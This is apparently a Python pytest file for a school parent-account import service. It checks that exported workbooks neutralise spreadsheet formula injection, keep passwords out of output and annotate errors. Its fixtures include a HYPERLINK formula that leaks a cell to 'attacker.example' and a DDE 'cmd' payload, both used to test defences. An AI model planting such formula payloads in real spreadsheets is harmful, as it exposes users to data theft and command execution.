"""Workbooks written back: the upload template (and its round trip through the reader), the annotated trial-run
workbook and the upload log, all opened with openpyxl; and `neutralise`, which every one of them uses."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.cell import Cell

from services.imports.files.annotated import PASSWORD_NOTE, write_annotated_workbook
from services.imports.files.kinds import Kind
from services.imports.files.neutralise import neutralise
from services.imports.files.outcomes import Action, LogEntry, RowOutcome
from services.imports.files.problems import Problem
from services.imports.files.reader import read_upload
from services.imports.files.rows import ParentAccountRow
from services.imports.files.template import TEMPLATE_HEADER, TemplateContact, TemplateStudent, write_template
from services.imports.files.upload_log import LOG_HEADER, write_upload_log
from tests.support.workbooks import PARENT_HEADER, csv_bytes, read_back, xlsx_bytes

EVIL = '=HYPERLINK("http://attacker.example/?leak="&A2,"Click")'
SECRET = "Sup3rSecretPw"


def fill_of(cell: Cell) -> str:
    return str(cell.fill.fgColor.rgb)[-6:] if cell.fill and cell.fill.fill_type == "solid" else ""


def all_text(workbook: bytes) -> str:
    archive = zipfile.ZipFile(io.BytesIO(workbook))
    return "".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("O'Brien", "O'Brien"), ("", ""), (12, 12), (None, None),
    ("bell\x07ring", "bellring"),
])
def test_neutralise(value: object, written: object) -> None:
    assert neutralise(value) == written


def test_neutralise_cuts_text_excel_cannot_hold() -> None:
    assert len(neutralise("x" * 40_000)) == 32_767  # type: ignore[arg-type]


# Template ----------------------------------------------------------------------------------------------------------
STUDENTS = [
    TemplateStudent("00123", "Ada", "Lovelace", 2031, "7A", "Lincoln High", (
        TemplateContact("Anne", "Lovelace", "anne@example.org", parental_responsibility=True),
        TemplateContact("Bill", "Lovelace", "bill@example.org", logonid="blovelace", parental_responsibility=True),
        TemplateContact("Cora", "Aunt", "cora@example.org", parental_responsibility=False))),
    TemplateStudent("00124", "Alan", "Turing", 2030, "8B", "Lincoln High"),
    TemplateStudent("00125", "Grace", "Hopper", None, "", "Lincoln High", (
        TemplateContact("Gus", "Hopper", "gus@example.org", parental_responsibility=None),)),
    TemplateStudent("00126", "Evil", EVIL, 2032, "9C", "Lincoln High", (
        TemplateContact("Eve", EVIL, "eve@example.org", parental_responsibility=True),)),
]


def test_template_layout() -> None:
    data = write_template(STUDENTS, selection="school Lincoln High")
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Parent accounts", "Read me"]
    sheet = book["Parent accounts"]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert tuple(rows[0]) == TEMPLATE_HEADER
    assert rows[1:] == [
        ["anne@example.org", "Anne", "Lovelace", "anne@example.org", None, None, "00123", None, "Ada Lovelace",
         "2031", "7A", "Lincoln High"],
        ["blovelace", "Bill", "Lovelace", "bill@example.org", None, None, "00123", None, "Ada Lovelace", "2031",
         "7A", "Lincoln High"],
        [None, None, None, None, None, None, "00124", None, "Alan Turing", "2030", "8B", "Lincoln High"],
        [None, None, None, None, None, None, "00125", None, "Grace Hopper", None, None, "Lincoln High"],
        ["eve@example.org", "Eve", "'" + EVIL, "eve@example.org", None, None, "00126", None, "Evil " + EVIL,
         "2032", "9C", "Lincoln High"],
    ]
    assert sheet["C6"].data_type == "s"
    assert sheet.freeze_panes == "A2"
    validations = {str(v.sqref): v.formula1 for v in sheet.data_validations.dataValidation}
    assert validations == {"F2:F1048576": '"GUARDIAN,STUDENT"', "H2:H1048576": '"Y,N"'}
    notes = {c.value: c.comment.text for c in sheet[1]}
    assert "at least 6 characters, not case-sensitive" in notes["LOGONID"]
    assert "At least 8 characters with an upper-case letter, a lower-case letter and a digit" in notes["PASSWORD"]
    assert "Leave it empty" in notes["PASSWORD"]
    assert "GUARDIAN (the default when empty) or STUDENT" in notes["USER_TYPE"]
    assert notes["GRAD_YEAR"] == "For your information only: the import ignores this column."
    read_me = [r[0] for r in book["Read me"].iter_rows(values_only=True)]
    assert "Students: school Lincoln High (5 rows)." in read_me
    assert any(line and "the row is skipped" in line for line in read_me)


def test_template_read_back_as_sent_is_a_parent_accounts_file() -> None:
    parsed = read_upload(write_template(STUDENTS), "template.xlsx")
    assert parsed.kind is Kind.PARENT_ACCOUNTS
    assert parsed.file_warnings == ()
    assert [(p.row_number, p.code) for p in parsed.problems] == [(4, "S_NO_ACCOUNT_WANTED"),
                                                                  (5, "S_NO_ACCOUNT_WANTED")]
    assert [(r.logonid, r.last_name, r.student_ids) for r in parsed.rows] == [  # type: ignore[union-attr]
        ("anne@example.org", "Lovelace", ("00123",)), ("blovelace", "Lovelace", ("00123",)),
        ("eve@example.org", EVIL, ("00126",))]


def test_template_filled_in_is_a_valid_parent_accounts_file() -> None:
    book = load_workbook(io.BytesIO(write_template(STUDENTS)))
    sheet = book["Parent accounts"]
    for column, value in zip("ABCDEFGH", ["aturing01", "Sara", "Turing", "sara@example.org", "Passw0rdOK",
                                           "GUARDIAN", "00124", "Y"], strict=True):
        sheet[f"{column}4"] = value
    sheet.append(["anne@example.org", "Anne", "Lovelace", "anne@example.org", None, None, "00125"])
    out = io.BytesIO()
    book.save(out)
    parsed = read_upload(out.getvalue(), "filled.xlsx")
    assert parsed.kind is Kind.PARENT_ACCOUNTS
    assert [(p.row_number, p.code) for p in parsed.problems] == [(5, "S_NO_ACCOUNT_WANTED")]
    accounts = {a.logonid: a for a in parsed.accounts}
    assert accounts["anne@example.org"].student_ids == ("00123", "00125")
    assert accounts["anne@example.org"].row_numbers == (2, 7)
    sara = accounts["aturing01"]
    assert (sara.password, sara.must_change_password, sara.student_ids) == ("Passw0rdOK", True, ("00124",))


# Annotated trial-run workbook --------------------------------------------------------------------------------------
def trial_file() -> bytes:
    return csv_bytes([
        [*PARENT_HEADER, "Notes"],
        ["jsmith01", "Jo", "Smith", "jo@example.org", SECRET, "", "1001", "Y", "first"],
        ["", "Al", "Jones", "al@example.org", "", "", "1002", "", "no username"],
        ["evil0001", "Eve", EVIL, "eve@example.org", "", "", "1003", "", "formula"],
        ["", "", "", "", "", "", "1004", "", ""],
        ["", "", "", "", "", "", "", "", ""],
        ["kbrown01", "Kim", "Brown", "not-an-email", SECRET + "2", "", "1005", "", ""],
        ["ldavis01", "Lee", "Davis", "lee@example.org", "", "", "1006", "", ""],
    ])


def trial_plan() -> list[RowOutcome]:
    return [
        RowOutcome(2, Action.CREATE),
        RowOutcome(4, Action.CREATE),
        RowOutcome(7, Action.ERROR, (Problem(7, "E_EMAIL_INVALID", "EMAIL", "EMAIL 'not-an-email' is not valid."),
                                     Problem(7, "E_PASSWORD_RULES", "PASSWORD", "The password breaks the rules."))),
        RowOutcome(8, Action.UNCHANGED, (Problem(8, "W_UNCHANGED", "", "The account already holds these details."),)),
    ]


def test_annotated_workbook_marks_each_row() -> None:
    parsed = read_upload(trial_file(), "parents.csv")
    data = write_annotated_workbook(parsed, trial_plan(), lines=["1 row will now get an invitation."])
    assert SECRET not in all_text(data)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Rows", "Summary"]
    sheet = book["Rows"]
    header = [c.value for c in sheet[1]]
    assert header == [*PARENT_HEADER, "Notes", "STATUS", "MESSAGE"]
    status = {row: sheet[f"J{row}"].value for row in range(2, 9)}
    assert status == {2: "OK", 3: "E_REQUIRED", 4: "OK", 5: "S_NO_ACCOUNT_WANTED", 6: None,
                      7: "E_EMAIL_INVALID, E_PASSWORD_RULES", 8: "OK, W_UNCHANGED"}
    assert sheet["K2"].value == "Will create the account."
    assert sheet["K3"].value.startswith("Not uploaded until fixed. E_REQUIRED: LOGONID (column A) is empty")

    # Bad cells: red, with a note carrying the code and the fix.
    assert fill_of(sheet["A3"]) == "FFC7CE" and fill_of(sheet["J3"]) == "FFC7CE"
    assert sheet["A3"].comment.text.startswith("E_REQUIRED: LOGONID (column A) is empty")
    assert fill_of(sheet["D7"]) == "FFC7CE"
    assert "E_EMAIL_INVALID" in sheet["D7"].comment.text and "Fix: Correct the address" in sheet["D7"].comment.text
    assert fill_of(sheet["B3"]) == ""
    # Rows that go ahead: green status (amber with a warning); whole rows green through conditional formatting.
    assert fill_of(sheet["J2"]) == "C6EFCE" and fill_of(sheet["J8"]) == "FFEB9C"
    assert 'LEFT($J2,2)="OK"' in str(sheet.conditional_formatting._cf_rules)
    assert fill_of(sheet["J5"]) == "E7E6E6"
    # Passwords never repeated: the cell is empty with a note, even on the row whose password was refused.
    for row in (2, 7):
        assert sheet[f"E{row}"].value is None
        assert sheet[f"E{row}"].comment.text == PASSWORD_NOTE
    assert sheet["E3"].comment is None
    # A formula-looking name comes out neutralised, as text.
    assert sheet["C4"].value == "'" + EVIL and sheet["C4"].data_type == "s"
    assert sheet.freeze_panes == "A2"

    summary = [list(r) for r in book["Summary"].iter_rows(values_only=True)]
    counts = {r[0]: r[1] for r in summary if r and r[0] and isinstance(r[1], int)}
    assert counts["Rows read"] == 6
    assert counts["Will create the account"] == 2
    assert counts["Not uploaded until fixed"] == 2
    assert counts["Skipped"] == 1
    assert counts["E_REQUIRED"] == 1 and counts["W_UNCHANGED"] == 1
    flat = [c for r in summary for c in r if isinstance(c, str)]
    assert "1 row will now get an invitation." in flat
    assert "2 passwords were not repeated: type them again, or leave PASSWORD empty to send invitations." in flat
    assert "Column I 'Notes' is not read in a parent accounts file and was ignored." in flat


def test_annotated_workbook_fixed_and_sent_back_reads_again() -> None:
    parsed = read_upload(trial_file(), "parents.csv")
    book = load_workbook(io.BytesIO(write_annotated_workbook(parsed, trial_plan())))
    sheet = book["Rows"]
    sheet["A3"] = "ajones01"
    sheet["D7"] = "kim@example.org"
    out = io.BytesIO()
    book.save(out)
    again = read_upload(out.getvalue(), "parents-fixed.xlsx")
    assert again.kind is Kind.PARENT_ACCOUNTS
    assert [w.column for w in again.file_warnings] == ["Notes"]  # STATUS and MESSAGE are ignored silently
    assert [(p.row_number, p.code) for p in again.problems] == [(5, "S_NO_ACCOUNT_WANTED")]
    rows = {r.row_number: r for r in again.rows if isinstance(r, ParentAccountRow)}
    assert sorted(rows) == [2, 3, 4, 7, 8]
    assert rows[3].logonid == "ajones01"
    assert rows[4].last_name == EVIL  # the reader undoes the neutralising apostrophe
    assert rows[2].password == "" and rows[7].password == ""  # will get invitations unless typed again


def test_annotated_workbook_keeps_row_numbers_below_a_title() -> None:
    data = xlsx_bytes([["Parents, autumn term"], [], PARENT_HEADER,
                       ["", "Al", "Jones", "al@example.org", "", "", "1002", ""],
                       ["jsmith01", "Jo", "Smith", "jo@example.org", "", "", "1001", ""]], sheet="Autumn")
    parsed = read_upload(data, "parents.xlsx")
    annotated = write_annotated_workbook(parsed.table, [RowOutcome(5, Action.CREATE)])
    assert read_back(annotated) == read_back(write_annotated_workbook(parsed, [RowOutcome(5, Action.CREATE)]))
    rows = read_back(annotated)
    assert rows[2][:1] == ["LOGONID"] and rows[2][-2:] == ["STATUS", "MESSAGE"]
    assert rows[3][8] == "E_REQUIRED" and rows[4][8] == "OK"
    assert load_workbook(io.BytesIO(annotated)).sheetnames == ["Autumn", "Summary"]
    assert [r.row_number for r in read_upload(annotated, "again.xlsx").rows] == [5]


# Upload log --------------------------------------------------------------------------------------------------------
def test_upload_log() -> None:
    entries = [
        LogEntry(5, Action.LINK, "jsmith01", "Jo Smith", "jo@example.org", ("1002",), detail="1 student linked"),
        LogEntry(2, Action.CREATE, "jsmith01", "Jo Smith", "jo@example.org", ("1001",), detail="invitation queued"),
        LogEntry(3, Action.UPDATE, "=cmd|' /C calc'!A0", "Al Jones", "al@example.org", detail="last name changed"),
        LogEntry(4, Action.SKIP, problems=(Problem(4, "S_NO_ACCOUNT_WANTED", "", "No account wanted."),)),
        LogEntry(6, Action.ERROR, "kbrown01", "Kim Brown", "bad", ("1005",),
                 problems=(Problem(6, "E_EMAIL_INVALID", "EMAIL", "EMAIL 'bad' is not valid."),)),
        LogEntry(7, Action.UNCHANGED, "ldavis01", "Lee Davis", "lee@example.org",
                 problems=(Problem(7, "W_UNCHANGED", "", "Nothing to do."),)),
    ]
    data = write_upload_log(entries, lines=["Upload of parents.csv by Jane (office)."])
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Log", "Summary"]
    sheet = book["Log"]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert tuple(rows[0]) == LOG_HEADER
    assert [(r[0], r[1], r[6]) for r in rows[1:]] == [
        (2, "added", None), (3, "updated", None), (4, "skipped", "S_NO_ACCOUNT_WANTED"), (5, "linked", None),
        (6, "not uploaded (error)", "E_EMAIL_INVALID"), (7, "unchanged", "W_UNCHANGED")]
    assert rows[2][2] == "'=cmd|' /C calc'!A0" and sheet["C3"].data_type == "s"
    assert rows[4][5] == "1002" and rows[4][7] == "1 student linked"
    assert fill_of(sheet["B2"]) == "C6EFCE" and fill_of(sheet["B6"]) == "FFC7CE" and fill_of(sheet["G6"]) == "FFC7CE"
    assert fill_of(sheet["B7"]) == "FFEB9C"
    summary = {r[0]: r[1] for r in book["Summary"].iter_rows(values_only=True) if r and r[0]}
    assert (summary["Rows read"], summary["Added"], summary["Updated"], summary["Linked"], summary["Skipped"],
            summary["Not uploaded (error)"], summary["Unchanged"]) == (6, 1, 1, 1, 1, 1, 1)
    assert summary["E_EMAIL_INVALID"] == 1
    assert "Upload of parents.csv by Jane (office)." in summary
